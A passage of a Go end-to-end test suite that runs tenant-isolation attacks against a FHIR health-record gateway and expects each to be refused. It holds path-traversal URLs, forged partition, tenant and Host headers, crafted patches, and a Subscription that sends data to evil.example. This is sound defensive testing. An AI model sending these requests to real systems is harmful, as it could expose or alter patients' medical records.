package e2e

import (
	"fmt"
	"net/http"
	"strings"
)

// obs is an Observation of alice's kind with the given members added.
func obs(members string) string {
	return `{"resourceType":"Observation","status":"final",` +
		`"code":{"coding":[{"system":"http://loinc.org","code":"29463-7"}]},` + members + `}`
}

// obsAbout is an Observation whose subject is ref.
func obsAbout(ref string) string { return obs(`"subject":{"reference":"` + ref + `"}`) }

// bundle is a Bundle of the given type with the given entries.
func bundle(typ string, entries ...string) string {
	return `{"resourceType":"Bundle","type":"` + typ + `","entry":[` + strings.Join(entries, ",") + `]}`
}

// entry is a Bundle entry; resource may be "".
func entry(fullURL, method, url, resource string) string {
	s := `{`
	if fullURL != "" {
		s += `"fullUrl":"` + fullURL + `",`
	}
	if resource != "" {
		s += `"resource":` + resource + `,`
	}
	return s + `"request":{"method":"` + method + `","url":"` + url + `"}}`
}

// jsonPatch is the Content-Type of a JSON Patch.
var jsonPatch = []string{"Content-Type", "application/json-patch+json"}

// binaryJSONPatch is a Bundle entry's Binary holding the JSON Patch p,
// encoded by world.expand after its templates are filled in.
func binaryJSONPatch(p string) string {
	return `{"resourceType":"Binary","contentType":"application/json-patch+json","data":"<<base64:` + p + `:base64>>"}`
}

// fhirPathPatch is a FHIRPath Patch Parameters with one operation.
func fhirPathPatch(typ, path string, parts ...string) string {
	all := append([]string{`{"name":"type","valueCode":"` + typ + `"}`, `{"name":"path","valueString":"` + path + `"}`}, parts...)
	return `{"resourceType":"Parameters","parameter":[{"name":"operation","part":[` + strings.Join(all, ",") + `]}]}`
}

// Outcomes the gateway owes most attacks.
var (
	unprocessable = refused(http.StatusUnprocessableEntity)
	badRequest    = refused(http.StatusBadRequest)
	forbidden     = refused(http.StatusForbidden)
	notFound      = refused(http.StatusNotFound)
	unauthorized  = refused(http.StatusUnauthorized)
)

// alicePatientIntact checks that alice's own Patient is still there.
func alicePatientIntact(w *world, _ response) string {
	r := w.do("GET", recordURL("alice-home", "/Patient/"+w.vars["alice"]), w.tokens["alice"], nil)
	if r.Status != http.StatusOK {
		return fmt.Sprintf("alice's own Patient is gone (read answered %d)", r.Status)
	}
	return ""
}

// countsNothing checks that a 200 search answer counts none of bob's
// resources: Bundle.total is data too (an oracle of what bob has).
func countsNothing(_ *world, r response) string {
	if r.Status != http.StatusOK {
		return ""
	}
	if total, ok := r.Body["total"].(float64); ok && total != 0 {
		return fmt.Sprintf("the answer counts %v resources alice does not have (an oracle of bob's data)", total)
	}
	return ""
}

// attackTable is the suite. Every row is one attack on bob's data; its name
// is its documentation.
func attackTable() []attack {
	long := strings.Repeat("a", 1100<<10)
	deep := strings.Repeat(`{"extension":[`, 150) + `{}` + strings.Repeat(`]}`, 150)
	// Reads come first: a write that got through would otherwise show up
	// in the reads after it and blur which attack succeeded.
	return []attack{
		// --- Reads of bob's data on alice's address ------------------------------------------
		{name: "read Patient/<bob>", method: "GET", path: "/fhir/Patient/{bob}", want: notFound},
		{name: "read Observation/<bob's id>", method: "GET", path: "/fhir/Observation/{bobObs}", want: notFound},
		{name: "vread Observation/<bob's id>/_history/1", method: "GET", path: "/fhir/Observation/{bobObs}/_history/1", want: notFound},
		{name: "HEAD Patient/<bob>", method: "HEAD", path: "/fhir/Patient/{bob}", want: bodiless(404)},
		// A HEAD is judged as the GET it stands for (asked upstream as a GET):
		// alice's own answers stay 200, bob's stay hidden, on every upstream.
		{name: "HEAD Observation/<bob's id>", method: "HEAD", path: "/fhir/Observation/{bobObs}", want: bodiless(404)},
		{name: "HEAD her own Patient", method: "HEAD", path: "/fhir/Patient/{alice}", want: bodiless(200)},
		{name: "HEAD her own Observation search", method: "HEAD", path: "/fhir/Observation?_count=5", want: bodiless(200)},
		{name: "instance history of bob's Observation", method: "GET", path: "/fhir/Observation/{bobObs}/_history", want: noLeak()},
		{name: "instance history of bob's Patient", method: "GET", path: "/fhir/Patient/{bob}/_history", want: noLeak()},
		{name: "system history (_history)", method: "GET", path: "/fhir/_history?_count=1000", want: noLeak()},
		{name: "type history Observation/_history", method: "GET", path: "/fhir/Observation/_history?_count=1000", want: noLeak()},
		{name: "search Observation?subject=Patient/<bob>", method: "GET", path: "/fhir/Observation?subject=Patient/{bob}", want: noLeak(), check: countsNothing},
		{name: "search Observation?patient=<bob>", method: "GET", path: "/fhir/Observation?patient={bob}", want: noLeak(), check: countsNothing},
		{name: "search Condition?subject=<bob's base>/Patient/<bob>", method: "GET", path: "/fhir/Condition?subject={bobBase}/Patient/{bob}", want: noLeak()},
		{name: "search every Observation with _include of the performer (bob's doctor)", method: "GET", path: "/fhir/Observation?_include=Observation:performer", want: noLeak()},
		{name: "search Observation with _include of the subject", method: "GET", path: "/fhir/Observation?_include=Observation:subject&_count=100", want: noLeak()},
		{name: "search Patient with _revinclude of Observations", method: "GET", path: "/fhir/Patient?_revinclude=Observation:subject", want: noLeak()},
		{name: "search Patient?_has:Observation:subject:code=<bob-only code>", method: "GET", path: "/fhir/Patient?_has:Observation:subject:code={bobOnlyCode}", want: noLeak()},
		{name: "chained search Observation?subject:Patient.name=Jones", method: "GET", path: "/fhir/Observation?subject:Patient.name=Jones", want: noLeak()},
		{name: "search Patient?identifier=<bob's ssn>", method: "GET", path: "/fhir/Patient?identifier={ssn}", want: noLeak(), check: countsNothing},
		{name: "search every Patient", method: "GET", path: "/fhir/Patient", want: noLeak()},
		{name: "search Observation?_id=<bob's id>", method: "GET", path: "/fhir/Observation?_id={bobObs}", want: noLeak()},
		{name: "search Patient?_id=<bob> with _revinclude=*", method: "GET", path: "/fhir/Patient?_id={bob}&_revinclude=*", want: noLeak()},
		{name: "$everything on alice's own Patient (a shared upstream must still show only hers)", method: "GET",
			path: "/fhir/Patient/{alice}/$everything?_count=1000", want: noLeak()},
		{name: "search every Practitioner (bob's doctor, on a shared upstream)", method: "GET", path: "/fhir/Practitioner", want: noLeak()},
		{name: "_summary=count oracle: how many Observations with bob's code exist", method: "GET",
			path: "/fhir/Observation?code=http://loinc.org|{bobOnlyCode}&_summary=count", want: noLeak(), check: countsNothing},
		{name: "_summary=count oracle: does a Patient named Jones exist", method: "GET",
			path: "/fhir/Patient?family=Jones&_summary=count", want: noLeak(), check: countsNothing},
		{name: "compartment search Patient/<bob>/Observation", method: "GET", path: "/fhir/Patient/{bob}/Observation", want: noLeak(), check: countsNothing},
		{name: "POST Observation/_search with subject=Patient/<bob> in the form body", method: "POST", path: "/fhir/Observation/_search",
			headers: []string{"Content-Type", "application/x-www-form-urlencoded"}, body: "subject=Patient/{bob}", want: noLeak(), check: countsNothing},
		{name: "search with _format=xml", method: "GET", path: "/fhir/Observation?_format=xml", want: noLeak()},
		{name: "read Patient/<bob> with _format=application/fhir+xml", method: "GET", path: "/fhir/Patient/{bob}?_format=application/fhir%2Bxml", want: noLeak()},
		{name: "read Patient/<bob> with Accept: application/fhir+xml", method: "GET", path: "/fhir/Patient/{bob}",
			headers: []string{"Accept", "application/fhir+xml"}, want: noLeak()},
		{name: "system-level search across types (_type=Observation,Patient)", method: "GET", path: "/fhir?_type=Observation,Patient", want: noLeak()},
		{name: "a next-page link (_getpages) guessed for the whole upstream", method: "GET", path: "/fhir?_getpages=x&_getpagesoffset=0&_count=100", want: noLeak()},

		// --- Operations ----------------------------------------------------------------------
		{name: "$everything on bob's Patient", method: "GET", path: "/fhir/Patient/{bob}/$everything", want: forbidden},
		{name: "$everything at type level (every Patient)", method: "GET", path: "/fhir/Patient/$everything", want: forbidden},
		{name: "$everything on bob's Patient by POST", method: "POST", path: "/fhir/Patient/{bob}/$everything",
			body: `{"resourceType":"Parameters"}`, want: forbidden},
		{name: "$partition-management-create-partition", method: "POST", path: "/fhir/$partition-management-create-partition",
			body: `{"resourceType":"Parameters","parameter":[{"name":"id","valueInteger":77},{"name":"name","valueCode":"mine"}]}`, want: forbidden},
		{name: "$partition-management-delete-partition", method: "POST", path: "/fhir/$partition-management-delete-partition",
			body: `{"resourceType":"Parameters","parameter":[{"name":"id","valueInteger":2}]}`, want: forbidden},
		{name: "$partition-management-list-partitions", method: "GET", path: "/fhir/$partition-management-list-partitions", want: forbidden},
		{name: "$expunge at system level", method: "POST", path: "/fhir/$expunge",
			body: `{"resourceType":"Parameters","parameter":[{"name":"expungeEverything","valueBoolean":true}]}`, want: forbidden},
		{name: "$expunge of bob's Observation", method: "POST", path: "/fhir/Observation/{bobObs}/$expunge",
			body: `{"resourceType":"Parameters"}`, want: forbidden},
		{name: "$meta-add on bob's Observation", method: "POST", path: "/fhir/Observation/{bobObs}/$meta-add",
			body: `{"resourceType":"Parameters","parameter":[{"name":"meta","valueMeta":{"tag":[{"code":"x"}]}}]}`, want: forbidden},

		// --- Method overrides --------------------------------------------------------------
		{name: "X-HTTP-Method-Override: DELETE on a read of bob's Observation", method: "GET", path: "/fhir/Observation/{bobObs}",
			headers: []string{"X-HTTP-Method-Override", "DELETE"}, want: badRequest},
		{name: "X-HTTP-Method: PUT on a POST", method: "POST", path: "/fhir/Observation/{bobObs}",
			headers: []string{"X-HTTP-Method", "PUT"}, body: obs(`"id":"{bobObs}","subject":{"reference":"Patient/{alice}"}`), want: badRequest},
		{name: "X-Method-Override: DELETE on a search", method: "GET", path: "/fhir/Observation?code={bobOnlyCode}",
			headers: []string{"X-Method-Override", "DELETE"}, want: badRequest},
		{name: "_method=DELETE in the query of a read", method: "GET", path: "/fhir/Observation/{bobObs}?_method=DELETE", want: noLeak()},

		// --- Client-sent partition and tenant headers -----------------------------------------
		{name: "X-Request-Partition-IDs: 2 (bob's partition, presumably) on alice's search", method: "GET", path: "/fhir/Observation?_count=100",
			headers: []string{"X-Request-Partition-IDs", "2"}, want: noLeak()},
		{name: "x-request-partition-ids: DEFAULT in lower case", method: "GET", path: "/fhir/Observation?_count=100",
			headers: []string{"x-request-partition-ids", "DEFAULT"}, want: noLeak()},
		{name: "X_Request_Partition_IDs with underscores", method: "GET", path: "/fhir/Observation?_count=100",
			headers: []string{"X_Request_Partition_IDs", "2"}, want: noLeak()},
		{name: "X-Request-Partition-IDs naming two partitions (1,2)", method: "GET", path: "/fhir/Patient",
			headers: []string{"X-Request-Partition-IDs", "1,2"}, want: noLeak()},
		{name: "X-FHIR-TENANT-ID and X-FHIR-DSID of another tenant", method: "GET", path: "/fhir/Patient",
			headers: []string{"X-FHIR-TENANT-ID", "pfr-2", "X-FHIR-DSID", "other"}, want: noLeak()},
		{name: "X-Forwarded-Host and Forwarded naming bob's host", method: "GET", path: "/fhir/Observation?_count=100",
			headers: []string{"X-Forwarded-Host", "{bobHost}", "Forwarded", "host={bobHost};proto=https"}, want: noLeak()},

		// --- Paths a client library would normalise --------------------------------------------
		{name: "path /fhir/../fhir/Patient/<bob>", method: "GET", target: "/fhir/../fhir/Patient/{bob}", want: refused(400, 404)},
		{name: "path with an encoded slash /fhir/Patient%2F<bob>", method: "GET", target: "/fhir/Patient%2F{bob}", want: refused(400, 404)},
		{name: "path with encoded dots /fhir/Observation/%2e%2e/Patient/<bob>", method: "GET", target: "/fhir/Observation/%2e%2e/Patient/{bob}", want: refused(400, 404)},
		{name: "path with a doubled slash /fhir//Patient/<bob>", method: "GET", target: "/fhir//Patient/{bob}", want: refused(400, 404)},
		{name: "path with a semicolon parameter /fhir/Patient/<bob>;x=y", method: "GET", target: "/fhir/Patient/{bob};x=y", want: refused(400, 404)},
		{name: "path with an encoded backslash /fhir/Patient%5C<bob>", method: "GET", target: "/fhir/Patient%5C{bob}", want: refused(400, 404)},
		{name: "path with an encoded NUL /fhir/Patient/<bob>%00", method: "GET", target: "/fhir/Patient/{bob}%00", want: refused(400, 404)},
		{name: "an over-long URL (1.1 MB)", method: "GET", target: "/fhir/Observation?x=" + long, want: limited(400, 414, 431)},
		{name: "an over-long header (1.1 MB)", method: "GET", target: "/fhir/Observation", headers: []string{"X-Pad", long}, want: limited(400, 431)},

		// --- Hosts and tokens ---------------------------------------------------------------
		{name: "alice's token with Host: bob's record on alice's TLS connection", method: "GET", target: "/fhir/Observation",
			hostHeader: "{bobHost}", want: refused(403, 421)},
		{name: "absolute-form request URI of bob's record sent on alice's connection", method: "GET",
			target: "https://{bobHost}/fhir/Observation", want: refused(403, 421)},
		{name: "absolute-form request URI of bob's record with Host: alice", method: "GET",
			target: "https://{bobHost}/fhir/Patient/{bob}", hostHeader: "{aliceHost}", want: refused(403, 404, 421)},
		{name: "Host: bob's record with a trailing dot", method: "GET", target: "/fhir/Patient/{bob}",
			hostHeader: "bob-home.pfr.localhost.:{port}", want: refused(403, 421)},
		{name: "Host: bob's record in upper case", method: "GET", target: "/fhir/Patient/{bob}",
			hostHeader: "BOB-HOME.PFR.LOCALHOST:{port}", want: refused(403, 421)},
		{name: "Host: bob's slug nested under alice's (bob-home.alice-home.pfr.localhost)", method: "GET", target: "/fhir/Patient/{bob}",
			hostHeader: "bob-home.alice-home.pfr.localhost:{port}", want: refused(404, 421)},
		{name: "bob's FHIR path on the apex host", host: "apex", method: "GET", path: "/fhir/Patient/{bob}", want: notFound},
		{name: "alice's token whose aud is bob's base, used on alice's address", as: "alice-aud-bob",
			method: "GET", path: "/fhir/Observation", want: unauthorized},
		{name: "bob's token (aud bob's base) used on alice's address", as: "bob-aud-bob",
			method: "GET", path: "/fhir/Observation", want: unauthorized},
		{name: "alice's token whose aud is alice's base, used on bob's address", as: "alice-aud-alice", host: "bob-home",
			method: "GET", path: "/fhir/Observation", want: refused(401, 403)},
		{name: "alice's token on bob's address: search", host: "bob-home", method: "GET", path: "/fhir/Observation", want: forbidden},
		{name: "alice's token on bob's address: create an Observation about bob", host: "bob-home",
			method: "POST", path: "/fhir/Observation", body: obsAbout("Patient/{bob}"), want: forbidden},
		{name: "alice's token on bob's address: $everything", host: "bob-home", method: "GET", path: "/fhir/Patient/{bob}/$everything", want: forbidden},
		{name: "no token on bob's address: read bob's Patient", as: "none", host: "bob-home", method: "GET", path: "/fhir/Patient/{bob}", want: unauthorized},
		{name: "a token of another gateway's dev issuer (sub alice) on bob's address", as: "alice-other-issuer", host: "bob-home",
			method: "GET", path: "/fhir/Observation", want: unauthorized},

		// --- Writes that point at bob's Patient ---------------------------------------
		{name: "create an Observation whose subject is bob's Patient, relative (Patient/<bob>)",
			method: "POST", path: "/fhir/Observation", body: obsAbout("Patient/{bob}"), want: unprocessable},
		{name: "create an Observation whose subject is bob's Patient, absolute on bob's base",
			method: "POST", path: "/fhir/Observation", body: obsAbout("{bobBase}/Patient/{bob}"), want: unprocessable},
		{name: "create an Observation whose subject is absolute on alice's base but with bob's id",
			method: "POST", path: "/fhir/Observation", body: obsAbout("{aliceBase}/Patient/{bob}"), want: unprocessable},
		{name: "create an Observation whose subject is a version of bob's Patient (Patient/<bob>/_history/1)",
			method: "POST", path: "/fhir/Observation", body: obsAbout("Patient/{bob}/_history/1"), want: unprocessable},
		{name: "create an Observation whose subject is a conditional reference to bob (Patient?identifier=<ssn>)",
			method: "POST", path: "/fhir/Observation", body: obsAbout("Patient?identifier={ssn}"), want: unprocessable},
		{name: "create an Observation whose subject names bob by identifier only",
			method: "POST", path: "/fhir/Observation", body: obs(`"subject":{"identifier":{"system":"urn:oid:2.16.840.1.113883.4.1","value":"{ssn}"}}`),
			want: unprocessable},
		{name: "create an Observation about a contained Patient carrying bob's identity (#p)",
			method: "POST", path: "/fhir/Observation",
			body: obs(`"contained":[{"resourceType":"Patient","id":"p","name":[{"family":"Jones"}]}],"subject":{"reference":"#p"}`),
			want: unprocessable},
		{name: "create an Observation about alice whose performer is bob's Patient",
			method: "POST", path: "/fhir/Observation",
			body: obs(`"subject":{"reference":"Patient/{alice}"},"performer":[{"reference":"Patient/{bob}"}]`), want: unprocessable},
		{name: "create an Observation about alice with an extension whose valueReference is bob's Patient",
			method: "POST", path: "/fhir/Observation",
			body: obs(`"subject":{"reference":"Patient/{alice}"},"extension":[{"url":"http://example.org/x","valueReference":{"reference":"Patient/{bob}"}}]`),
			want: unprocessable},
		{name: "create an Observation about alice containing an Observation about bob",
			method: "POST", path: "/fhir/Observation",
			body: obs(`"subject":{"reference":"Patient/{alice}"},"contained":[` + obsAbout("Patient/{bob}")[:len(obsAbout("Patient/{bob}"))-1] + `,"id":"c1"}],"hasMember":[{"reference":"#c1"}]`),
			want: unprocessable},
		{name: "create an Observation with no subject at all (belongs to nobody, visible to whoever shares the upstream)",
			method: "POST", path: "/fhir/Observation", body: obs(`"note":[{"text":"orphan"}]`), want: unprocessable},
		{name: "create an Observation whose subject is a Group (stands for other people)",
			method: "POST", path: "/fhir/Observation", body: obsAbout("Group/everyone"), want: unprocessable},
		{name: "create an Observation whose subject uses a Cyrillic look-alike (Patіent/<bob>)",
			method: "POST", path: "/fhir/Observation", body: obsAbout("Pat\u0456ent/{bob}"), want: unprocessable},
		{name: "create an Observation whose subject climbs out of alice's Patient (Patient/<alice>/../<bob>)",
			method: "POST", path: "/fhir/Observation", body: obsAbout("Patient/{alice}/../{bob}"), want: unprocessable},
		{name: "create an Observation whose absolute subject climbs out of alice's base ({aliceBase}/../fhir/Patient/<bob>)",
			method: "POST", path: "/fhir/Observation", body: obsAbout("{aliceBase}/../fhir/Patient/{bob}"), want: unprocessable},
		{name: "create a Condition (another compartment type) about bob",
			method: "POST", path: "/fhir/Condition",
			body: `{"resourceType":"Condition","subject":{"reference":"Patient/{bob}"},"code":{"text":"planted"}}`, want: unprocessable},
		{name: "create a Device (no compartment) attached to bob's Patient",
			method: "POST", path: "/fhir/Device", body: `{"resourceType":"Device","patient":{"reference":"Patient/{bob}"}}`, want: unprocessable},
		{name: "create a Subscription (infrastructure, could send data elsewhere)",
			method: "POST", path: "/fhir/Subscription",
			body: `{"resourceType":"Subscription","status":"requested","reason":"x","criteria":"Observation?patient={bob}","channel":{"type":"rest-hook","endpoint":"https://evil.example/hook"}}`,
			want: unprocessable},

		// --- Patients ----------------------------------------------------------------
		{name: "PUT Patient/<bob> with bob's identity on alice's address",
			method: "PUT", path: "/fhir/Patient/{bob}",
			body: `{"resourceType":"Patient","id":"{bob}","name":[{"family":"Jones","given":["Mallory"]}]}`, want: unprocessable},
		{name: "POST Patient: a second person inside alice's record",
			method: "POST", path: "/fhir/Patient", body: `{"resourceType":"Patient","name":[{"family":"Jones"}]}`, want: unprocessable},
		{name: "DELETE Patient/<alice>: alice's own Patient, which would orphan the record",
			method: "DELETE", path: "/fhir/Patient/{alice}", want: unprocessable, check: alicePatientIntact},
		{name: "DELETE Patient/<bob> on alice's address",
			method: "DELETE", path: "/fhir/Patient/{bob}", want: unprocessable},
		{name: "PUT Patient/<alice> with a body whose id is bob's (id mismatch)",
			method: "PUT", path: "/fhir/Patient/{alice}",
			body: `{"resourceType":"Patient","id":"{bob}","name":[{"family":"Smith","given":["Alice"]}]}`, want: refused(400, 422)},
		{name: "conditional update of a Patient by bob's identifier (PUT Patient?identifier=<ssn>)",
			method: "PUT", path: "/fhir/Patient?identifier={ssn}",
			body: `{"resourceType":"Patient","name":[{"family":"Jones"}]}`, want: unprocessable},

		// --- Bob's resources by id, on alice's address ----------------------------------
		{name: "PUT Observation/<bob's id> re-pointing bob's Observation at alice (update-as-takeover)", on: shared,
			method: "PUT", path: "/fhir/Observation/{bobObs}",
			body: obs(`"id":"{bobObs}","subject":{"reference":"Patient/{alice}"}`), want: notFound},
		{name: "DELETE Observation/<bob's id> on alice's address",
			method: "DELETE", path: "/fhir/Observation/{bobObs}",
			want: harmless(200, 204, 404), wantShared: &notFound},
		{name: "DELETE Condition/<bob's id> with If-Match of its version",
			method: "DELETE", path: "/fhir/Condition/{bobCond}", headers: []string{"If-Match", `W/"1"`},
			want: harmless(200, 204, 404, 412), wantShared: &notFound},
		{name: "PATCH Observation/<bob's id> re-pointing its subject at alice",
			method: "PATCH", path: "/fhir/Observation/{bobObs}", headers: jsonPatch,
			body: `[{"op":"replace","path":"/subject/reference","value":"Patient/{alice}"}]`, want: notFound},
		{name: "PUT Practitioner/<bob's doctor> (a type outside every compartment) on the shared upstream", on: shared,
			method: "PUT", path: "/fhir/Practitioner/{bobPract}",
			body: `{"resourceType":"Practitioner","id":"{bobPract}","name":[{"family":"Overwritten"}]}`, want: notFound},

		// --- PATCH ------------------------------------------------------------------
		{name: "PATCH alice's Observation: replace its subject with bob's Patient",
			method: "PATCH", path: "/fhir/Observation/{aliceObs}", headers: jsonPatch,
			body: `[{"op":"replace","path":"/subject/reference","value":"Patient/{bob}"}]`, want: unprocessable},
		{name: "PATCH alice's Observation: add a contained Patient",
			method: "PATCH", path: "/fhir/Observation/{aliceObs}", headers: jsonPatch,
			body: `[{"op":"add","path":"/contained","value":[{"resourceType":"Patient","id":"p"}]}]`, want: unprocessable},
		{name: "PATCH alice's Observation: turn it into bob's Patient (resourceType and id)",
			method: "PATCH", path: "/fhir/Observation/{aliceObs}", headers: jsonPatch,
			body: `[{"op":"replace","path":"/resourceType","value":"Patient"},{"op":"replace","path":"/id","value":"{bob}"}]`, want: unprocessable},
		{name: "PATCH with a stale If-Match (W/\"999\") that re-points the subject at bob",
			method: "PATCH", path: "/fhir/Observation/{aliceObs}", headers: append([]string{"If-Match", `W/"999"`}, jsonPatch...),
			body: `[{"op":"replace","path":"/subject/reference","value":"Patient/{bob}"}]`, want: refused(412, 422)},
		{name: "PATCH with If-Match: * that re-points the subject at bob",
			method: "PATCH", path: "/fhir/Observation/{aliceObs}", headers: append([]string{"If-Match", `*`}, jsonPatch...),
			body: `[{"op":"replace","path":"/subject/reference","value":"Patient/{bob}"}]`, want: refused(412, 422)},
		{name: "PATCH with a JSON Merge Patch body instead of JSON Patch",
			method: "PATCH", path: "/fhir/Observation/{aliceObs}", headers: []string{"Content-Type", "application/merge-patch+json"},
			body: `{"subject":{"reference":"Patient/{bob}"}}`, want: refused(415)},
		{name: "conditional PATCH Observation?code=<bob-only code>",
			method: "PATCH", path: "/fhir/Observation?code={bobOnlyCode}", headers: jsonPatch,
			body: `[{"op":"replace","path":"/subject/reference","value":"Patient/{alice}"}]`, want: refused(404, 412, 422)},
		{name: "conditional FHIRPath Patch Observation?code=<bob-only code> re-pointing it at alice",
			method: "PATCH", path: "/fhir/Observation?code={bobOnlyCode}",
			body: fhirPathPatch("replace", "Observation.subject.reference", `{"name":"value","valueString":"Patient/{alice}"}`), want: refused(404, 412, 422)},
		{name: "PATCH alice's Observation: remove its subject (JSON Patch)",
			method: "PATCH", path: "/fhir/Observation/{aliceObs}", headers: jsonPatch,
			body: `[{"op":"remove","path":"/subject"}]`, want: unprocessable},
		{name: "FHIRPath Patch alice's Observation: replace its subject with bob's Patient",
			method: "PATCH", path: "/fhir/Observation/{aliceObs}",
			body: fhirPathPatch("replace", "Observation.subject", `{"name":"value","valueReference":{"reference":"Patient/{bob}"}}`), want: unprocessable},
		{name: "FHIRPath Patch alice's Observation: delete its subject",
			method: "PATCH", path: "/fhir/Observation/{aliceObs}", body: fhirPathPatch("delete", "Observation.subject"), want: unprocessable},
		{name: "FHIRPath Patch alice's Observation: add a performer that is bob's Patient",
			method: "PATCH", path: "/fhir/Observation/{aliceObs}",
			body: fhirPathPatch("add", "Observation", `{"name":"name","valueString":"performer"}`, `{"name":"value","valueReference":{"reference":"Patient/{bob}"}}`), want: unprocessable},
		{name: "FHIRPath Patch bob's Observation by id, re-pointing it at alice",
			method: "PATCH", path: "/fhir/Observation/{bobObs}",
			body: fhirPathPatch("replace", "Observation.subject.reference", `{"name":"value","valueString":"Patient/{alice}"}`), want: notFound},
		{name: "FHIRPath Patch alice's own Patient into bob's (its id)",
			method: "PATCH", path: "/fhir/Patient/{alice}",
			body: fhirPathPatch("replace", "Patient.id", `{"name":"value","valueId":"{bob}"}`), want: unprocessable},

		// --- Conditional writes ------------------------------------------------------------
		// Conditional updates and deletes are confined to the record (the
		// record's stamp is added as a criterion on an untrusted upstream):
		// bob's matches neither count nor answer, not even as a 412.
		{name: "DELETE Observation?code=<bob-only code>: a conditional delete that matches only bob's data when partitions are ignored",
			method: "DELETE", path: "/fhir/Observation?code=http://loinc.org|{bobOnlyCode}",
			want: harmless(200, 204, 404)},
		{name: "PUT Observation?code=<bob-only code>: a conditional update over bob's Observation", on: shared,
			method: "PUT", path: "/fhir/Observation?code=http://loinc.org|{bobOnlyCode}",
			body: obsAbout("Patient/{alice}"), want: harmless(200, 201)},
		{name: "DELETE Observation?subject=Patient/<bob>",
			method: "DELETE", path: "/fhir/Observation?subject=Patient/{bob}", want: unprocessable},
		{name: "DELETE Observation with no criteria (matches everything)",
			method: "DELETE", path: "/fhir/Observation", want: unprocessable},
		{name: "DELETE Observation?_format=json (the only criterion shapes the answer: an upstream may match everything)",
			method: "DELETE", path: "/fhir/Observation?_format=json", want: unprocessable},
		{name: "PUT Observation?_summary=true&_elements=id (a conditional update without real criteria)",
			method: "PUT", path: "/fhir/Observation?_summary=true&_elements=id", body: obsAbout("Patient/{alice}"), want: unprocessable},
		{name: "POST Observation?_format=xml with a JSON body about bob",
			method: "POST", path: "/fhir/Observation?_format=xml", body: obsAbout("Patient/{bob}"), want: refused(406, 415, 422)},
		{name: "DELETE Observation?unknown-param=x (an upstream may ignore it and match everything)",
			method: "DELETE", path: "/fhir/Observation?no-such-param=x", want: unprocessable},
		{name: "DELETE Observation?_has:Condition:subject:code=x (reverse chain)",
			method: "DELETE", path: "/fhir/Observation?_has:Condition:subject:code=x", want: unprocessable},
		{name: "DELETE Observation?subject:Patient.identifier=<ssn> (chained)",
			method: "DELETE", path: "/fhir/Observation?subject:Patient.identifier={ssn}", want: unprocessable},
		{name: "conditional create with If-None-Exist naming bob (subject=Patient/<bob>)",
			method: "POST", path: "/fhir/Observation", headers: []string{"If-None-Exist", "subject=Patient/{bob}"},
			body: obsAbout("Patient/{alice}"), want: unprocessable},

		// --- Transactions and batches ------------------------------------------------------
		{name: "transaction: a urn:uuid bound to PUT Patient/<bob> and an Observation about that urn",
			method: "POST", path: "/fhir",
			body: bundle("transaction",
				entry("urn:uuid:8c0c4d5e-0000-4000-8000-000000000001", "PUT", "Patient/{bob}", `{"resourceType":"Patient","id":"{bob}"}`),
				entry("urn:uuid:8c0c4d5e-0000-4000-8000-000000000002", "POST", "Observation", obsAbout("urn:uuid:8c0c4d5e-0000-4000-8000-000000000001"))),
			want: unprocessable},
		{name: "transaction: a urn:uuid bound to a new Patient and an Observation about it",
			method: "POST", path: "/fhir",
			body: bundle("transaction",
				entry("urn:uuid:8c0c4d5e-0000-4000-8000-000000000003", "POST", "Patient", `{"resourceType":"Patient","name":[{"family":"Jones"}]}`),
				entry("", "POST", "Observation", obsAbout("urn:uuid:8c0c4d5e-0000-4000-8000-000000000003"))),
			want: unprocessable},
		{name: "transaction: an entry URL absolute on bob's base",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "POST", "{bobBase}/Observation", obsAbout("Patient/{alice}"))), want: refused(400, 422)},
		{name: "transaction: an entry URL on another host",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "POST", "https://evil.example/fhir/Observation", obsAbout("Patient/{alice}"))), want: refused(400, 422)},
		{name: "transaction: an entry URL with a dot segment (Observation/../Patient/<bob>)",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "DELETE", "Observation/../Patient/{bob}", "")), want: refused(400, 422)},
		{name: "transaction: an entry URL with an encoded slash (Patient%2F<bob>)",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "DELETE", "Patient%2F{bob}", "")), want: refused(400, 422)},
		{name: "transaction: an entry URL with encoded dots (Observation/%2e%2e/Patient/<bob>)",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "GET", "Observation/%2e%2e/Patient/{bob}", "")), want: refused(400, 422)},
		{name: "transaction: a nested transaction Bundle about bob as an entry",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "POST", "Bundle", bundle("transaction", entry("", "POST", "Observation", obsAbout("Patient/{bob}"))))),
			want: refused(400, 422)},
		{name: "transaction: GET Patient/<bob> read inside a transaction",
			method: "POST", path: "/fhir", body: bundle("transaction", entry("", "GET", "Patient/{bob}", "")), want: unprocessable},
		{name: "batch: GET Observation?subject=Patient/<bob>",
			method: "POST", path: "/fhir", body: bundle("batch", entry("", "GET", "Observation?subject=Patient/{bob}", "")), want: unprocessable},
		{name: "batch: GET Observation/<bob's id> (a read by id inside a batch)",
			method: "POST", path: "/fhir", body: bundle("batch", entry("", "GET", "Observation/{bobObs}", "")),
			want: harmless(200, 404, 422)},
		{name: "transaction: conditional DELETE Observation?code=<bob-only code>",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "DELETE", "Observation?code={bobOnlyCode}", "")),
			want: harmless(200, 404, 412, 422)},
		{name: "transaction: conditional PUT Observation?code=<bob-only code> (confined: creates in alice's record)",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "PUT", "Observation?code=http://loinc.org|{bobOnlyCode}", obsAbout("Patient/{alice}"))),
			want: harmless(200, 412, 422)},
		{name: "transaction: DELETE Observation/<bob's id> by id", on: shared,
			method: "POST", path: "/fhir", body: bundle("transaction", entry("", "DELETE", "Observation/{bobObs}", "")),
			want: refused(404, 412, 422)},
		{name: "transaction: PUT Observation/<bob's id> re-pointed at alice", on: shared,
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "PUT", "Observation/{bobObs2}", obs(`"id":"{bobObs2}","subject":{"reference":"Patient/{alice}"}`))),
			want: refused(404, 412, 422)},
		{name: "transaction: a JSON Patch entry (Binary) re-pointing alice's Observation at bob's Patient",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "PATCH", "Observation/{aliceObs}",
				binaryJSONPatch(`[{"op":"replace","path":"/subject/reference","value":"Patient/{bob}"}]`))),
			want: unprocessable},
		{name: "transaction: a FHIRPath Patch entry replacing the subject of alice's Observation with bob's Patient",
